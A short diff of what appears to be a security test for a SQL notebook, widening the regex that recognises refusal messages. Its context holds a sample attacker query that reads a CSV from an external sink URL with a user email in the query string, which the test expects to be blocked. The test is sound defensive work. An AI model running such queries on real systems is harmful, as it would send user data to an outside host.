@@ -100,7 +100,7 @@ async function runCell(cell: Locator): Promise<void> {
 
 /** The attacker's SQL: each statement tries to reach the listener or undo the lockdown. */
 function attackSql(sink: string): { sql: string; expect: RegExp }[] {
-	const refused = /disabled|locked|cannot be installed|not allowed|Permission/i;
+	const refused = /disabled|locked|turned off|cannot be installed|not allowed|Permission/i;
 	return [
 		{ sql: `SELECT * FROM '${sink}/direct.csv?d=user1@example.com'`, expect: refused },
 		{
